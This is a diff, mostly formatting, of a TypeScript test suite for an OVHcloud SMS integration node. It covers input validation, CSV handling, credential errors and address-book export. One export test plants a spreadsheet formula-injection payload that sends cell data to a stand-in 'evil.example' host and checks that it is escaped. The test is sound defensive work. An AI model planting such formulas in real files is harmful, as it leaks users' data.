@@ -22,7 +22,11 @@ afterAll(() => process.stderr.write(`\n[bad input] what the user sees:\n${seen.m
 
 const postJobs = () => harness.sandbox.requests.filter((r) => r.method === 'POST' && /\/jobs$/.test(r.path));
 const creditsLeft = () => harness.account().creditsLeft;
-const receiversSent = () => harness.allSms().map((sms) => sms.receiver).sort();
+const receiversSent = () =>
+	harness
+		.allSms()
+		.map((sms) => sms.receiver)
+		.sort();
 const apiCredentials = (overrides: IDataObject = {}) => ({
 	ovhCloudApi: { endpoint: 'custom', customEndpoint: harness.sandbox.apiBaseUrl, ...harness.sandbox.credentials, ...overrides },
 });
@@ -81,19 +85,34 @@ describe('Send: one bad item among good ones', () => {
 	const refused = (field: string, rule: string, value: string) =>
 		new RegExp(`^${literal(`"${field}" must be ${rule}, not ${value}; nothing was sent [item 1]`)}$`);
 	const rows: Array<{ input: string; bad: IDataObject; parameters?: IDataObject; error: RegExp | null; sentTo?: string }> = [
-		{ input: 'Malformed number', bad: { phone: '+33 6 12 ab 56' }, error: /^No valid phone number in "Phone Numbers": "\+33 6 12 ab 56" contains letters \[item 1\]$/ },
-		{ input: 'Malformed number (too short)', bad: { phone: '+33 6 12' }, error: /"\+33 6 12" wrong length for France: 3 digits after \+33, expected 9 \[item 1\]$/ },
+		{
+			input: 'Malformed number',
+			bad: { phone: '+33 6 12 ab 56' },
+			error: /^No valid phone number in "Phone Numbers": "\+33 6 12 ab 56" contains letters \[item 1\]$/,
+		},
+		{
+			input: 'Malformed number (too short)',
+			bad: { phone: '+33 6 12' },
+			error: /"\+33 6 12" wrong length for France: 3 digits after \+33, expected 9 \[item 1\]$/,
+		},
 		{
 			input: 'National number, no default country',
 			bad: { phone: '06 12 34 56 78' },
 			parameters: { defaultCountry: '' },
 			error: /"06 12 34 56 78" national number without a country: write it as \+<country code>… or set a default country \[item 1\]$/,
 		},
-		{ input: 'National number, default country FR', bad: { phone: '06 12 34 56 78' }, parameters: { defaultCountry: 'FR' }, error: null, sentTo: '+33612345678' },
+		{
+			input: 'National number, default country FR',
+			bad: { phone: '06 12 34 56 78' },
+			parameters: { defaultCountry: 'FR' },
+			error: null,
+			sentTo: '+33612345678',
+		},
 		{
 			input: '2,000-character message',
 			bad: { msg: 'a'.repeat(2000) },
-			error: /^The message needs 14 SMS parts \(2011 GSM-7 characters with the STOP mention\), more than "Maximum Parts" allows \(6\); nothing was sent \[item 1\]$/,
+			error:
+				/^The message needs 14 SMS parts \(2011 GSM-7 characters with the STOP mention\), more than "Maximum Parts" allows \(6\); nothing was sent \[item 1\]$/,
 		},
 		{
 			input: 'Lone surrogate in the message',
@@ -102,13 +121,22 @@ describe('Send: one bad item among good ones', () => {
 		},
 		{ input: 'Empty message', bad: { msg: '' }, error: /^"Message" is empty \[item 1\]$/ },
 		{ input: 'Message of spaces only', bad: { msg: '   \n ' }, error: /^"Message" is empty \[item 1\]$/ },
-		{ input: 'Unknown sender', bad: { sender: 'Nobody' }, error: /^The sender "Nobody" does not exist on sms-sb00001-1\. Enabled senders: MyCompany, Alerts, .* \[item 1\]$/ },
+		{
+			input: 'Unknown sender',
+			bad: { sender: 'Nobody' },
+			error: /^The sender "Nobody" does not exist on sms-sb00001-1\. Enabled senders: MyCompany, Alerts, .* \[item 1\]$/,
+		},
 		{
 			input: 'Sender over 11 characters',
 			bad: { sender: 'MyCompanyShop' },
-			error: /^The sender "MyCompanyShop" does not exist on sms-sb00001-1\. A sender name has at most 11 characters; "MyCompanyShop" has 13\. Enabled senders: /,
+			error:
+				/^The sender "MyCompanyShop" does not exist on sms-sb00001-1\. A sender name has at most 11 characters; "MyCompanyShop" has 13\. Enabled senders: /,
 		},
-		{ input: 'Sender not enabled (refused)', bad: { sender: 'Refused' }, error: /^The sender "Refused" cannot send: .*Brand not justified.* \[item 1\]$/ },
+		{
+			input: 'Sender not enabled (refused)',
+			bad: { sender: 'Refused' },
+			error: /^The sender "Refused" cannot send: .*Brand not justified.* \[item 1\]$/,
+		},
 		{
 			input: 'Send At in the past',
 			bad: { sendAt: '2020-01-01T10:00:00Z' },
@@ -120,7 +148,11 @@ describe('Send: one bad item among good ones', () => {
 			bad: { sendAt: '2206-05-01T10:00:00Z' },
 			error: /^"Send At" is more than 365 days ahead: 2206-05-01T10:00:00\+00:00; nothing was sent \[item 1\]$/,
 		},
-		{ input: 'Send At in 9999 (differedPeriod above 2³¹)', bad: { sendAt: '9999-12-31T00:00:00Z' }, error: /^"Send At" is more than 365 days ahead: 9999-12-31/ },
+		{
+			input: 'Send At in 9999 (differedPeriod above 2³¹)',
+			bad: { sendAt: '9999-12-31T00:00:00Z' },
+			error: /^"Send At" is more than 365 days ahead: 9999-12-31/,
+		},
 		{
 			input: 'Maximum Parts "six" from an expression, 14-part message',
 			bad: { maxParts: 'six', msg: 'a'.repeat(2000) },
@@ -132,7 +164,8 @@ describe('Send: one bad item among good ones', () => {
 		{
 			input: 'Tag of 42 characters',
 			bad: { tag: 'spring-promotion-for-our-loyal-customers-1' },
-			error: /^"Tag" has 42 characters, more than the 20 allowed: "spring-promotion-for-our-loyal-customers-1"; nothing was sent \[item 1\]$/,
+			error:
+				/^"Tag" has 42 characters, more than the 20 allowed: "spring-promotion-for-our-loyal-customers-1"; nothing was sent \[item 1\]$/,
 		},
 		{ input: 'Tag that is an object', bad: { tag: { a: 1 } }, error: refused('Tag', 'a text of at most 20 characters', '{"a":1}') },
 		{
@@ -140,19 +173,39 @@ describe('Send: one bad item among good ones', () => {
 			bad: { validityPeriod: 'two days' },
 			error: refused('Validity Period (Minutes)', 'a whole number from 1 to 2147483647', '"two days"'),
 		},
-		{ input: 'Validity Period -5', bad: { validityPeriod: -5 }, error: refused('Validity Period (Minutes)', 'a whole number from 1 to 2147483647', '-5') },
+		{
+			input: 'Validity Period -5',
+			bad: { validityPeriod: -5 },
+			error: refused('Validity Period (Minutes)', 'a whole number from 1 to 2147483647', '-5'),
+		},
 		{ input: 'Class "loud"', bad: { class: 'loud' }, error: refused('Class', 'one of "flash", "phoneDisplay", "sim"', '"loud"') },
-		{ input: 'Priority "urgent"', bad: { priority: 'urgent' }, error: refused('Priority', 'one of "high", "low", "medium", "veryLow"', '"urgent"') },
-		{ input: 'Not Commercial "yes please"', bad: { noStopClause: 'yes please' }, error: refused('Non-Commercial (No STOP Mention)', 'true or false', '"yes please"') },
+		{
+			input: 'Priority "urgent"',
+			bad: { priority: 'urgent' },
+			error: refused('Priority', 'one of "high", "low", "medium", "veryLow"', '"urgent"'),
+		},
+		{
+			input: 'Not Commercial "yes please"',
+			bad: { noStopClause: 'yes please' },
+			error: refused('Non-Commercial (No STOP Mention)', 'true or false', '"yes please"'),
+		},
 		{ input: 'Not Commercial "false" as text', bad: { noStopClause: 'false' }, error: null, sentTo: '+33611111101' },
-		{ input: 'Transliteration "strong"', bad: { transliteration: 'strong' }, error: refused('Transliteration', 'one of "none", "safe", "lossy"', '"strong"') },
+		{
+			input: 'Transliteration "strong"',
+			bad: { transliteration: 'strong' },
+			error: refused('Transliteration', 'one of "none", "safe", "lossy"', '"strong"'),
+		},
 		{ input: 'Dry Run "maybe"', bad: { dryRun: 'maybe' }, error: refused('Dry Run', 'true or false', '"maybe"') },
 		{
 			input: 'Maximum Receivers per Job 0',
 			bad: { maxReceiversPerJob: 0 },
 			error: refused('Maximum Receivers per Job', 'a whole number from 1 to 10000', '0'),
 		},
-		{ input: 'Parallel Jobs "many"', bad: { parallelJobs: 'many' }, error: refused('Parallel Jobs', 'a whole number from 1 to 16', '"many"') },
+		{
+			input: 'Parallel Jobs "many"',
+			bad: { parallelJobs: 'many' },
+			error: refused('Parallel Jobs', 'a whole number from 1 to 16', '"many"'),
+		},
 	];
 
 	test.each(rows)('$input', async ({ input, bad, parameters: overrides, error, sentTo }) => {
@@ -194,7 +247,8 @@ describe('Send: CSV files', () => {
 		{
 			input: 'Numbers in the wrong column',
 			file: 'phone;name\nAlice;+33611111101\nBob;+33611111102\n',
-			error: /^CSV file "customers\.csv": No valid phone number in CSV file "customers\.csv" \(2 rows\): line 2: "Alice" contains letters; line 3: "Bob" contains letters \[item 0\]$|^No valid phone number in CSV file "customers\.csv" \(2 rows\): line 2: "Alice" contains letters; line 3: "Bob" contains letters \[item 0\]$/,
+			error:
+				/^CSV file "customers\.csv": No valid phone number in CSV file "customers\.csv" \(2 rows\): line 2: "Alice" contains letters; line 3: "Bob" contains letters \[item 0\]$|^No valid phone number in CSV file "customers\.csv" \(2 rows\): line 2: "Alice" contains letters; line 3: "Bob" contains letters \[item 0\]$/,
 		},
 		{
 			input: 'Column named in "Number Column" not in the file',
@@ -224,14 +278,20 @@ describe('Send: CSV files', () => {
 		{
 			input: 'Binary junk as the CSV file',
 			file: BINARY_JUNK,
-			error: /^CSV file "customers\.csv": This is not a text file \(\d+ control characters in its first 4,096 characters, the first at position \d+\): is it really a CSV file\? \[item 0\]$/,
+			error:
+				/^CSV file "customers\.csv": This is not a text file \(\d+ control characters in its first 4,096 characters, the first at position \d+\): is it really a CSV file\? \[item 0\]$/,
 		},
 		{ input: 'Empty CSV file', file: '', error: /^CSV file "customers\.csv": The file has no rows \[item 0\]$/ },
 		{
 			input: 'Four numbers on one line (one-column header, comma-separated)',
 			file: 'phone\n+33611111101\n+33611111102, +33611111103, +33611111104, +33611111105\n+33611111106\n',
 			sent: ['+33611111101', '+33611111106'],
-			invalid: [{ line: 3, reason: /^holds 4 phone numbers \(3 of them beyond the header's 1 column\): put one number per row; none of them was sent$/ }],
+			invalid: [
+				{
+					line: 3,
+					reason: /^holds 4 phone numbers \(3 of them beyond the header's 1 column\): put one number per row; none of them was sent$/,
+				},
+			],
 		},
 		{
 			input: 'Two numbers in the number cell (a quoted list)',
@@ -244,12 +304,14 @@ describe('Send: CSV files', () => {
 			file: '+33611111101;+33611111102\n+33611111103;+33611111104\n',
 			parameters: { csvHeader: 'no' },
 			sent: [],
-			error: /^No valid phone number in CSV file "customers\.csv" \(2 rows\): line 1: "\+33611111101" holds 2 phone numbers \(1 of them in other columns\): put one number per row/,
+			error:
+				/^No valid phone number in CSV file "customers\.csv" \(2 rows\): line 1: "\+33611111101" holds 2 phone numbers \(1 of them in other columns\): put one number per row/,
 		},
 		{
 			input: 'A 20 MB line (no line break)',
 			file: `phone\n+33611111101\n${'1234567890;'.repeat(2_000_000)}\n+33611111103\n`,
-			error: /^CSV file "customers\.csv": Line 3 is longer than 65,536 characters: is this really a CSV file of receivers\? Nothing was read from it \[item 0\]$/,
+			error:
+				/^CSV file "customers\.csv": Line 3 is longer than 65,536 characters: is this really a CSV file of receivers\? Nothing was read from it \[item 0\]$/,
 		},
 	];
 
@@ -288,7 +350,14 @@ describe('Send: CSV files', () => {
 		const result = await harness.run(csvParameters(), [csvItem(file)]);
 		expect(result.status).toBe('success');
 		const [out] = jsonOf(result);
-		expect(out).toMatchObject({ status: 'partlySent', summarised: true, validReceiverCount: 1_485, idCount: 1_485, invalidReceiverCount: 15, duplicateReceiverCount: 0 });
+		expect(out).toMatchObject({
+			status: 'partlySent',
+			summarised: true,
+			validReceiverCount: 1_485,
+			idCount: 1_485,
+			invalidReceiverCount: 15,
+			duplicateReceiverCount: 0,
+		});
 		expect(out.validReceivers).toBeUndefined();
 		expect(out.ids).toBeUndefined();
 		expect((out.invalidReceivers as IDataObject[])[0]).toEqual({ receiver: 'bad 7', reason: 'contains letters', line: 9 });
@@ -297,7 +366,10 @@ describe('Send: CSV files', () => {
 		// Every SMS is found by the output's tags.
 		const tags = new Set(out.tags as string[]);
 		expect(harness.allSms().every((sms) => tags.has(sms.tag!))).toBe(true);
-		note('CSV of 1,500 rows (15 bad), List Receivers up To 1,000 (default)', `summarised: validReceiverCount 1485, idCount 1485, invalidReceiverCount 15, the first 100 invalid rows, tags`);
+		note(
+			'CSV of 1,500 rows (15 bad), List Receivers up To 1,000 (default)',
+			`summarised: validReceiverCount 1485, idCount 1485, invalidReceiverCount 15, the first 100 invalid rows, tags`,
+		);
 
 		harness.sandbox.reset();
 		harness.sandbox.setCredits(CREDITS);
@@ -352,7 +424,9 @@ describe('Send: credentials and endpoint (every item fails alike: they share the
 	let notOvhUrl = '';
 	let closedUrl = '';
 	beforeAll(async () => {
-		notOvh = http.createServer((_req, res) => res.writeHead(200, { 'Content-Type': 'text/html' }).end('<html><body>Welcome to nginx!</body></html>'));
+		notOvh = http.createServer((_req, res) =>
+			res.writeHead(200, { 'Content-Type': 'text/html' }).end('<html><body>Welcome to nginx!</body></html>'),
+		);
 		await new Promise<void>((resolve) => notOvh.listen(0, '127.0.0.1', resolve));
 		notOvhUrl = `http://127.0.0.1:${(notOvh.address() as AddressInfo).port}/1.0`;
 		// A port that was just free: nothing listens there.
@@ -391,18 +465,24 @@ describe('Send: credentials and endpoint (every item fails alike: they share the
 		{ input: 'Application key with a trailing space', credentials: withSpace('applicationKey'), error: null },
 		{ input: 'Application secret with a trailing space', credentials: withSpace('applicationSecret'), error: null },
 		{ input: 'Consumer key with a trailing space', credentials: withSpace('consumerKey'), error: null },
-		{ input: 'Consumer key with a leading tab and a trailing new line', credentials: () => apiCredentials({ consumerKey: `\t${harness.sandbox.credentials.consumerKey}\n` }), error: null },
+		{
+			input: 'Consumer key with a leading tab and a trailing new line',
+			credentials: () => apiCredentials({ consumerKey: `\t${harness.sandbox.credentials.consumerKey}\n` }),
+			error: null,
+		},
 		{
 			input: 'Wrong endpoint: nothing listens there',
 			credentials: () => apiCredentials({ customEndpoint: closedUrl }),
 			// The clock is asked 6 times with backoff (a restarting API is not a wrong endpoint): ~12 s a run.
 			skipStopRun: true,
-			error: /^OVHcloud API no answer on GET \/auth\/time: could not read the API clock \(connection refused: nothing listens there\); check the endpoint in the credential \(http:\/\/127\.0\.0\.1:\d+\/1\.0\) and the network$/,
+			error:
+				/^OVHcloud API no answer on GET \/auth\/time: could not read the API clock \(connection refused: nothing listens there\); check the endpoint in the credential \(http:\/\/127\.0\.0\.1:\d+\/1\.0\) and the network$/,
 		},
 		{
 			input: 'Wrong endpoint: a web server, not the OVHcloud API',
 			credentials: () => apiCredentials({ customEndpoint: notOvhUrl }),
-			error: /^OVHcloud API 200 on GET \/auth\/time: this is not the OVHcloud API: it answered "Welcome to nginx!" where the API gives its clock; check the endpoint in the credential \(http:\/\/127\.0\.0\.1:\d+\/1\.0\)$/,
+			error:
+				/^OVHcloud API 200 on GET \/auth\/time: this is not the OVHcloud API: it answered "Welcome to nginx!" where the API gives its clock; check the endpoint in the credential \(http:\/\/127\.0\.0\.1:\d+\/1\.0\)$/,
 		},
 		{
 			input: 'Wrong endpoint: plain http to another host',
@@ -414,7 +494,8 @@ describe('Send: credentials and endpoint (every item fails alike: they share the
 			credentials: () => apiCredentials(),
 			setUp: () => harness.sandbox.expireCredentials(),
 			tearDown: () => harness.sandbox.expireCredentials(false),
-			error: /^OVHcloud API 403 INVALID_CREDENTIAL on GET \/sms\/sms-sb00001-1\/senders\/MyCompany: This credential is not valid \(query id [^)]+\) \[item \d\]$|^OVHcloud API 403 INVALID_CREDENTIAL on GET \/sms\/sms-sb00001-1\/senders\/MyCompany: This credential is not valid \(query id [^)]+\)$/,
+			error:
+				/^OVHcloud API 403 INVALID_CREDENTIAL on GET \/sms\/sms-sb00001-1\/senders\/MyCompany: This credential is not valid \(query id [^)]+\) \[item \d\]$|^OVHcloud API 403 INVALID_CREDENTIAL on GET \/sms\/sms-sb00001-1\/senders\/MyCompany: This credential is not valid \(query id [^)]+\)$/,
 			description: /^The consumer key \(or the service account token\) is unknown, expired or revoked: create a new consumer key/,
 		},
 		{
@@ -422,52 +503,57 @@ describe('Send: credentials and endpoint (every item fails alike: they share the
 			credentials: () => oauth2(),
 			setUp: () => harness.sandbox.revokeOAuth2(),
 			tearDown: () => harness.sandbox.revokeOAuth2(false),
-			error: /^OVHcloud API 401 invalid_client on POST OAuth2 token endpoint: the service account was refused \(.*revoked\): check the client ID and secret, and that the secret was not revoked/,
+			error:
+				/^OVHcloud API 401 invalid_client on POST OAuth2 token endpoint: the service account was refused \(.*revoked\): check the client ID and secret, and that the secret was not revoked/,
 		},
 	];
 
-	test.each(rows)('$input', async ({ input, credentials, setUp, tearDown, error, description, skipStopRun }) => {
-		const items = [{ phone: '+33611111101' }, { phone: '+33611111102' }];
-		const parameters = sendParameters({ receivers: '={{ $json.phone }}' });
-		const run = (continueOnFail: boolean) =>
-			runNode({
-				type: 'ovhSms',
-				credentials: credentials(),
-				parameters: { serviceName: { __rl: true, mode: 'id', value: harness.sandbox.serviceName }, ...parameters },
-				items,
-				continueOnFail,
-			});
-		setUp?.();
-		try {
-			const result = await run(true);
-			if (!error) {
-				expectPaired(result, 2);
-				expect(jsonOf(result).map((json) => json.status)).toEqual(['sent', 'sent']);
-				note(input, 'trimmed: sent');
-				expect(creditsLeft()).toBe(CREDITS - 2);
-				return;
+	test.each(rows)(
+		'$input',
+		async ({ input, credentials, setUp, tearDown, error, description, skipStopRun }) => {
+			const items = [{ phone: '+33611111101' }, { phone: '+33611111102' }];
+			const parameters = sendParameters({ receivers: '={{ $json.phone }}' });
+			const run = (continueOnFail: boolean) =>
+				runNode({
+					type: 'ovhSms',
+					credentials: credentials(),
+					parameters: { serviceName: { __rl: true, mode: 'id', value: harness.sandbox.serviceName }, ...parameters },
+					items,
+					continueOnFail,
+				});
+			setUp?.();
+			try {
+				const result = await run(true);
+				if (!error) {
+					expectPaired(result, 2);
+					expect(jsonOf(result).map((json) => json.status)).toEqual(['sent', 'sent']);
+					note(input, 'trimmed: sent');
+					expect(creditsLeft()).toBe(CREDITS - 2);
+					return;
+				}
+				// A client that cannot even be built (bad endpoint URL) fails the node as a whole.
+				const errors = result.status === 'success' ? jsonOf(result).map((json) => String(json.error)) : [String(result.error?.message)];
+				if (result.status === 'success') {
+					expectPaired(result, 2);
+					expect(errors).toHaveLength(2);
+				}
+				errors.forEach((text) => expect(text).toMatch(error));
+				if (description) expect(jsonOf(result)[0].errorDescription).toMatch(description);
+				note(input, `${errors[0]}${jsonOf(result)[0]?.errorDescription ? ` — ${String(jsonOf(result)[0].errorDescription)}` : ''}`);
+				expect(postJobs()).toHaveLength(0);
+				expect(creditsLeft()).toBe(CREDITS);
+				if (skipStopRun) return;
+				const stopped = await run(false);
+				expect(stopped.status).toBe('error');
+				expect(stopped.error?.message).toMatch(error);
+				expect(postJobs()).toHaveLength(0);
+				expect(creditsLeft()).toBe(CREDITS);
+			} finally {
+				tearDown?.();
 			}
-			// A client that cannot even be built (bad endpoint URL) fails the node as a whole.
-			const errors = result.status === 'success' ? jsonOf(result).map((json) => String(json.error)) : [String(result.error?.message)];
-			if (result.status === 'success') {
-				expectPaired(result, 2);
-				expect(errors).toHaveLength(2);
-			}
-			errors.forEach((text) => expect(text).toMatch(error));
-			if (description) expect(jsonOf(result)[0].errorDescription).toMatch(description);
-			note(input, `${errors[0]}${jsonOf(result)[0]?.errorDescription ? ` — ${String(jsonOf(result)[0].errorDescription)}` : ''}`);
-			expect(postJobs()).toHaveLength(0);
-			expect(creditsLeft()).toBe(CREDITS);
-			if (skipStopRun) return;
-			const stopped = await run(false);
-			expect(stopped.status).toBe('error');
-			expect(stopped.error?.message).toMatch(error);
-			expect(postJobs()).toHaveLength(0);
-			expect(creditsLeft()).toBe(CREDITS);
-		} finally {
-			tearDown?.();
-		}
-	}, 60_000);
+		},
+		60_000,
+	);
 });
 
 describe('Campaign: bad input stops one campaign before anything is created', () => {
@@ -490,9 +576,22 @@ describe('Campaign: bad input stops one campaign before anything is created', ()
 	};
 	const file = 'number;firstname\n+33611111101;Ann\n';
 	const rows: Array<{ input: string; file: string | Buffer; bad?: IDataObject; error: RegExp }> = [
-		{ input: 'Campaign: binary junk as the CSV file', file: BINARY_JUNK, error: /^The CSV file is not a text file \(\d+ control characters/ },
-		{ input: 'Campaign: no usable number in the file', file: 'number;firstname\nabc;Ann\n06 12;Bob\n', error: /^No receiver to send to \(line 2: contains letters; line 3: wrong length for France/ },
-		{ input: 'Campaign: start date in the past', file, bad: { startAt: '2020-01-01T10:00:00Z' }, error: /^The start time 2020-01-01T10:00:00\.000Z is in the past/ },
+		{
+			input: 'Campaign: binary junk as the CSV file',
+			file: BINARY_JUNK,
+			error: /^The CSV file is not a text file \(\d+ control characters/,
+		},
+		{
+			input: 'Campaign: no usable number in the file',
+			file: 'number;firstname\nabc;Ann\n06 12;Bob\n',
+			error: /^No receiver to send to \(line 2: contains letters; line 3: wrong length for France/,
+		},
+		{
+			input: 'Campaign: start date in the past',
+			file,
+			bad: { startAt: '2020-01-01T10:00:00Z' },
+			error: /^The start time 2020-01-01T10:00:00\.000Z is in the past/,
+		},
 		{ input: 'Campaign: empty message', file, bad: { message: ' ' }, error: /^"Message" is empty: nothing was created$/ },
 		{
 			input: 'Campaign: start date in 2206',
@@ -504,9 +603,15 @@ describe('Campaign: bad input stops one campaign before anything is created', ()
 			input: 'Campaign: Tag of 42 characters',
 			file,
 			bad: { tag: 'spring-promotion-for-our-loyal-customers-1' },
-			error: /^"Tag" has 42 characters, more than the 20 allowed: "spring-promotion-for-our-loyal-customers-1"; nothing was created \[item 0\]$/,
+			error:
+				/^"Tag" has 42 characters, more than the 20 allowed: "spring-promotion-for-our-loyal-customers-1"; nothing was created \[item 0\]$/,
 		},
-		{ input: 'Campaign: Dry Run "maybe"', file, bad: { dryRun: 'maybe' }, error: /^"Dry Run" must be true or false, not "maybe"; nothing was created \[item 0\]$/ },
+		{
+			input: 'Campaign: Dry Run "maybe"',
+			file,
+			bad: { dryRun: 'maybe' },
+			error: /^"Dry Run" must be true or false, not "maybe"; nothing was created \[item 0\]$/,
+		},
 		{
 			input: 'Campaign: Default Country "France"',
 			file,
@@ -517,7 +622,8 @@ describe('Campaign: bad input stops one campaign before anything is created', ()
 			input: 'Campaign: unknown placeholder column',
 			file,
 			bad: { message: 'Hello #Firstname#' },
-			error: /^The message uses #Firstname#, which is not a column of the CSV file "customers\.csv" \(columns: number, firstname\)\. Did you mean #firstname#/,
+			error:
+				/^The message uses #Firstname#, which is not a column of the CSV file "customers\.csv" \(columns: number, firstname\)\. Did you mean #firstname#/,
 		},
 	];
 
@@ -565,7 +671,10 @@ describe('Campaign: an empty or missing placeholder value', () => {
 		expect(result.status).toBe('success');
 		const [out] = jsonOf(result);
 		expect(out).toMatchObject({ rejectedCount: 3, rejected: rejectedRows });
-		note('Campaign: empty or missing placeholder value (3 rows of 4)', `created for 1 receiver; rejected: ${rejectedRows.map((r) => `line ${r.line}: ${r.reason}`).join('; ')}`);
+		note(
+			'Campaign: empty or missing placeholder value (3 rows of 4)',
+			`created for 1 receiver; rejected: ${rejectedRows.map((r) => `line ${r.line}: ${r.reason}`).join('; ')}`,
+		);
 		expect(creditsLeft()).toBe(CREDITS - 1);
 	});
 
@@ -579,8 +688,14 @@ describe('Campaign: an empty or missing placeholder value', () => {
 	test('"Fallback for Empty Values" sends them with that text instead', async () => {
 		const result = await harness.run(parameters({ options: { emptyValueFallback: 'dear customer' } }), [csvItem(file)]);
 		const [out] = jsonOf(result);
-		expect(out).toMatchObject({ rejectedCount: 0, estimate: { recipients: 4, longestMessage: 'Hello dear customer, your order is ready.' } });
-		note('Campaign: the same file, Fallback for Empty Values "dear customer"', 'created for 4 receivers, "Hello dear customer, your order is ready."');
+		expect(out).toMatchObject({
+			rejectedCount: 0,
+			estimate: { recipients: 4, longestMessage: 'Hello dear customer, your order is ready.' },
+		});
+		note(
+			'Campaign: the same file, Fallback for Empty Values "dear customer"',
+			'created for 4 receivers, "Hello dear customer, your order is ready."',
+		);
 		expect(creditsLeft()).toBe(CREDITS - 4);
 	});
 });
@@ -596,9 +711,21 @@ describe('Estimate: options from expressions are checked like typed ones', () =>
 	};
 	const good = { count: 10, maxParts: 6, transliteration: 'none' };
 	const rows: Array<{ input: string; bad: IDataObject; error: RegExp }> = [
-		{ input: 'Estimate: Maximum Parts "six"', bad: { maxParts: 'six' }, error: /^"Maximum Parts" must be a whole number from 1 to 255, not "six"; nothing was estimated \[item 1\]$/ },
-		{ input: 'Estimate: Number of Recipients "ten"', bad: { count: 'ten' }, error: /^"Number of Recipients" must be a whole number from 0 to 100000000, not "ten"; nothing was estimated \[item 1\]$/ },
-		{ input: 'Estimate: Transliteration "strong"', bad: { transliteration: 'strong' }, error: /^"Transliteration" must be one of "none", "safe", "lossy", not "strong"; nothing was estimated \[item 1\]$/ },
+		{
+			input: 'Estimate: Maximum Parts "six"',
+			bad: { maxParts: 'six' },
+			error: /^"Maximum Parts" must be a whole number from 1 to 255, not "six"; nothing was estimated \[item 1\]$/,
+		},
+		{
+			input: 'Estimate: Number of Recipients "ten"',
+			bad: { count: 'ten' },
+			error: /^"Number of Recipients" must be a whole number from 0 to 100000000, not "ten"; nothing was estimated \[item 1\]$/,
+		},
+		{
+			input: 'Estimate: Transliteration "strong"',
+			bad: { transliteration: 'strong' },
+			error: /^"Transliteration" must be one of "none", "safe", "lossy", not "strong"; nothing was estimated \[item 1\]$/,
+		},
 	];
 	test.each(rows)('$input', async ({ input, bad, error }) => {
 		const result = await harness.run(parameters, [good, { ...good, ...bad }, good], { continueOnFail: true });
@@ -632,12 +759,25 @@ describe('Address Book import: CSV files', () => {
 		addressBook: { __rl: true, mode: 'id', value: bookKey },
 		importOptions: { pollIntervalSeconds: 0.02 },
 	});
-	const contacts = () => Object.values(harness.account().phonebooks[bookKey].contacts).map((c) => c.homeMobile).sort();
+	const contacts = () =>
+		Object.values(harness.account().phonebooks[bookKey].contacts)
+			.map((c) => c.homeMobile)
+			.sort();
 	const goodFile = csvItem('group;name;surname;homeMobile\nVIP;Zoe;Last;+33699999901\n', 'other.csv');
 
-	const rows: Array<{ input: string; file: string | Buffer; error?: RegExp; created?: string[]; rejected?: Array<{ line: number; reason: RegExp }> }> = [
+	const rows: Array<{
+		input: string;
+		file: string | Buffer;
+		error?: RegExp;
+		created?: string[];
+		rejected?: Array<{ line: number; reason: RegExp }>;
+	}> = [
 		{ input: 'Import: CSV with a BOM', file: '\uFEFFname;surname;homeMobile\nAnn;A;+33611111101\n', created: ['+33611111101'] },
-		{ input: 'Import: CSV with `,`', file: 'name,surname,homeMobile\nAnn,A,+33611111101\nBob,B,0611111102\n', created: ['+33611111101', '+33611111102'] },
+		{
+			input: 'Import: CSV with `,`',
+			file: 'name,surname,homeMobile\nAnn,A,+33611111101\nBob,B,0611111102\n',
+			created: ['+33611111101', '+33611111102'],
+		},
 		{
 			input: 'Import: quoted fields with `;` and line breaks',
 			file: 'name;surname;homeMobile\n"Ann; Jr";"A\nB";+33611111101\nBob;B;12\nCarl;C;+33611111103\n',
@@ -653,8 +793,18 @@ describe('Address Book import: CSV files', () => {
 			created: ['+33611111101'],
 			rejected: [{ line: 6, reason: /^no surname$/ }],
 		},
-		{ input: 'Import: numbers in a column not named like a phone field', file: 'name;surname;phone\nAnn;A;+33611111101\n', error: /^No phone number column: name one homeMobile, homePhone, workMobile, workPhone, or map columns to fields \(the file's columns are "name", "surname", "phone"\)$/ },
-		{ input: 'Import: binary junk as the file', file: BINARY_JUNK, error: /^"customers\.csv" is not a text file \(\d+ control characters in its first 4,096 characters, the first at position \d+\): is it really a CSV file\?$/ },
+		{
+			input: 'Import: numbers in a column not named like a phone field',
+			file: 'name;surname;phone\nAnn;A;+33611111101\n',
+			error:
+				/^No phone number column: name one homeMobile, homePhone, workMobile, workPhone, or map columns to fields \(the file's columns are "name", "surname", "phone"\)$/,
+		},
+		{
+			input: 'Import: binary junk as the file',
+			file: BINARY_JUNK,
+			error:
+				/^"customers\.csv" is not a text file \(\d+ control characters in its first 4,096 characters, the first at position \d+\): is it really a CSV file\?$/,
+		},
 	];
 
 	test.each(rows)('$input', async ({ input, file, error, created, rejected }) => {
@@ -685,12 +835,20 @@ describe('Address Book import: CSV files', () => {
 		const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
 		await client.post(path, { group: 'VIP', name: '@SUM(1+1)', surname: formula, homeMobile: '+33611111101' });
 		await client.post(path, { group: 'VIP', name: 'Ann', surname: 'Dupont', homeMobile: '+33611111102' });
-		const result = await runBook({ resource: 'addressBook', operation: 'export', addressBook: { __rl: true, mode: 'id', value: bookKey }, binaryPropertyName: 'data' });
+		const result = await runBook({
+			resource: 'addressBook',
+			operation: 'export',
+			addressBook: { __rl: true, mode: 'id', value: bookKey },
+			binaryPropertyName: 'data',
+		});
 		expect(result.status).toBe('success');
 		const csv = Buffer.from(result.output[0].binary!.data.data, 'base64').toString('utf8');
 		const lines = csv.trim().split('\n').sort();
 		expect(lines).toContain(`VIP;"'@SUM(1+1)";"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open"")";+33611111101;;;`);
 		expect(lines).toContain('VIP;Ann;Dupont;+33611111102;;;');
-		note('Export: contact named =HYPERLINK(…), first name @SUM(1+1)', `written as "'=HYPERLINK(…)" and "'@SUM(1+1)": text in a spreadsheet; phone numbers unchanged`);
+		note(
+			'Export: contact named =HYPERLINK(…), first name @SUM(1+1)',
+			`written as "'=HYPERLINK(…)" and "'@SUM(1+1)": text in a spreadsheet; phone numbers unchanged`,
+		);
 	});
 });
